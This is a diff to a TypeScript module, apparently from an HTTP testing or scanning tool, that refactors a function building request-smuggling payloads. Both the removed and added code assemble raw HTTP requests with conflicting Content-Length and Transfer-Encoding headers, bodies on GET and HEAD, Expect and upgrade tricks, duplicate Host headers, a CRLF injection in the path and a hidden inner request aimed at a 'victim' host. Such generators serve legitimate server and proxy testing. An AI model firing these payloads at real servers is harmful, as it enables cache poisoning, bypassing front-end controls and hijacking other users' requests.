@@ -84,74 +84,76 @@ const CHUNKED_ENDS = [
   "\r\n0\r\n\r\n",
 ];
 
-export function attacks(host: string, victim: string): Attack[] {
-  const found: Attack[] = [];
-  const post = (headers: string) => `POST /who HTTP/1.1\r\nHost: ${host}\r\n${headers}${END}`;
-  for (const [kind, inner] of Object.entries(hidden(host))) {
-    const chunk = `${inner.length.toString(16)}\r\n${inner}\r\n0${END}`;
-    for (const header of TRANSFER_ENCODINGS) {
-      const name = `${kind}, ${JSON.stringify(header)}`;
-      found.push(
-        {
-          name: `${name}, length counts all`,
-          bytes: post(`Content-Length: ${5 + inner.length}\r\n${header}`) + `0${END}${inner}`,
-        },
-        { name: `${name}, length counts less`, bytes: post(`Content-Length: 4\r\n${header}`) + chunk },
-        { name: `${name}, no length`, bytes: post(header) + chunk, pipelined: true },
-      );
-    }
-    for (const header of lengths(inner.length)) {
-      found.push({ name: `${kind}, ${JSON.stringify(header)}`, bytes: post(header) + inner, pipelined: true });
-    }
-    for (const end of CHUNKED_ENDS) {
-      const bytes = post("Transfer-Encoding: chunked") + end + inner;
-      found.push({ name: `${kind}, chunks ${JSON.stringify(end)}`, bytes, pipelined: true });
-    }
-    for (const method of ["GET", "HEAD", "OPTIONS", "DELETE", "TRACE"]) {
-      const line = `${method} /who HTTP/1.1\r\nHost: ${host}\r\n`;
-      found.push(
-        { name: `${kind}, a body on ${method}`, bytes: `${line}Content-Length: ${inner.length}${END}${inner}` },
-        { name: `${kind}, chunks on ${method}`, bytes: `${line}Transfer-Encoding: chunked${END}${chunk}` },
-      );
-    }
-    const body = `Content-Length: ${inner.length}`;
-    found.push(
-      { name: `${kind}, Expect`, bytes: post(`Expect: 100-continue\r\n${body}`) + inner },
-      { name: `${kind}, Expect and something else`, bytes: post(`Expect: x 100-continue\r\n${body}`) + inner },
-      { name: `${kind}, an upgrade`, bytes: post(`Connection: upgrade\r\nUpgrade: websocket\r\n${body}`) + inner },
-      {
-        name: `${kind}, an upgrade to h2c`,
-        bytes:
-          post(`Connection: upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n${body}`) + inner,
-      },
-      {
-        name: `${kind}, HTTP/1.0 with chunks`,
-        bytes: `POST /who HTTP/1.0\r\nHost: ${host}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked${END}0${END}${inner}`,
-        pipelined: true,
-      },
-      { name: `${kind}, HTTP/0.9`, bytes: `GET /who\r\n${inner}`, pipelined: true },
-      {
-        name: `${kind}, two Hosts`,
-        bytes: `GET /who HTTP/1.1\r\nHost: ${host}\r\nHost: ${victim}${END}${inner}`,
-        pipelined: true,
-      },
-      {
-        name: `${kind}, another's address as target`,
-        bytes: `GET http://${victim}/who HTTP/1.1\r\nHost: ${host}${END}${inner}`,
-        pipelined: true,
-      },
-      { name: `${kind}, line feeds alone`, bytes: `GET /who HTTP/1.1\nHost: ${host}\n\n${inner}`, pipelined: true },
-      {
-        name: `${kind}, a line end in the path`,
-        bytes: `GET /who%0d%0aHost:%20${victim} HTTP/1.1\r\nHost: ${host}${END}${inner}`,
-        pipelined: true,
-      },
-      {
-        name: `${kind}, two honest requests`,
-        bytes: `GET /who HTTP/1.1\r\nHost: ${host}${END}${inner}`,
-        pipelined: true,
-      },
-    );
-  }
-  return found;
+/** What hides it: the host it is sent to, another's host, and the hidden request. */
+interface Hiding {
+  kind: string;
+  host: string;
+  victim: string;
+  inner: string;
 }
+
+const post = (host: string, headers: string): string => `POST /who HTTP/1.1\r\nHost: ${host}\r\n${headers}${END}`;
+const chunkOf = (inner: string): string => `${inner.length.toString(16)}\r\n${inner}\r\n0${END}`;
+
+/** Two words for how long the body is, of which one may be overlooked. */
+const byTransferEncoding = ({ kind, host, inner }: Hiding): Attack[] =>
+  TRANSFER_ENCODINGS.flatMap((header) => {
+    const name = `${kind}, ${JSON.stringify(header)}`;
+    const all = post(host, `Content-Length: ${5 + inner.length}\r\n${header}`);
+    return [
+      { name: `${name}, length counts all`, bytes: `${all}0${END}${inner}` },
+      { name: `${name}, length counts less`, bytes: post(host, `Content-Length: 4\r\n${header}`) + chunkOf(inner) },
+      { name: `${name}, no length`, bytes: post(host, header) + chunkOf(inner), pipelined: true },
+    ];
+  });
+
+const byLength = ({ kind, host, inner }: Hiding): Attack[] =>
+  lengths(inner.length).map((header) => ({
+    name: `${kind}, ${JSON.stringify(header)}`,
+    bytes: post(host, header) + inner,
+    pipelined: true,
+  }));
+
+const byChunks = ({ kind, host, inner }: Hiding): Attack[] =>
+  CHUNKED_ENDS.map((end) => ({
+    name: `${kind}, chunks ${JSON.stringify(end)}`,
+    bytes: post(host, "Transfer-Encoding: chunked") + end + inner,
+    pipelined: true,
+  }));
+
+const byMethod = ({ kind, host, inner }: Hiding): Attack[] =>
+  ["GET", "HEAD", "OPTIONS", "DELETE", "TRACE"].flatMap((method) => {
+    const line = `${method} /who HTTP/1.1\r\nHost: ${host}\r\n`;
+    return [
+      { name: `${kind}, a body on ${method}`, bytes: `${line}Content-Length: ${inner.length}${END}${inner}` },
+      { name: `${kind}, chunks on ${method}`, bytes: `${line}Transfer-Encoding: chunked${END}${chunkOf(inner)}` },
+    ];
+  });
+
+/** Headers after which some read no body. */
+const byExpectation = ({ kind, host, inner }: Hiding): Attack[] =>
+  [
+    "Expect: 100-continue",
+    "Expect: x 100-continue",
+    "Connection: upgrade\r\nUpgrade: websocket",
+    "Connection: upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
+  ].map((header) => ({
+    name: `${kind}, ${JSON.stringify(header)}`,
+    bytes: post(host, `${header}\r\nContent-Length: ${inner.length}`) + inner,
+  }));
+
+const byRequestLine = ({ kind, host, victim, inner }: Hiding): Attack[] =>
+  [
+    `POST /who HTTP/1.0\r\nHost: ${host}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked${END}0${END}`,
+    `GET /who\r\n`,
+    `GET /who HTTP/1.1\r\nHost: ${host}\r\nHost: ${victim}${END}`,
+    `GET http://${victim}/who HTTP/1.1\r\nHost: ${host}${END}`,
+    `GET /who HTTP/1.1\nHost: ${host}\n\n`,
+    `GET /who%0d%0aHost:%20${victim} HTTP/1.1\r\nHost: ${host}${END}`,
+    `GET /who HTTP/1.1\r\nHost: ${host}${END}`,
+  ].map((first) => ({ name: `${kind}, ${JSON.stringify(first)}`, bytes: first + inner, pipelined: true }));
+
+const WAYS = [byTransferEncoding, byLength, byChunks, byMethod, byExpectation, byRequestLine];
+
+export const attacks = (host: string, victim: string): Attack[] =>
+  Object.entries(hidden(host)).flatMap(([kind, inner]) => WAYS.flatMap((way) => way({ kind, host, victim, inner })));
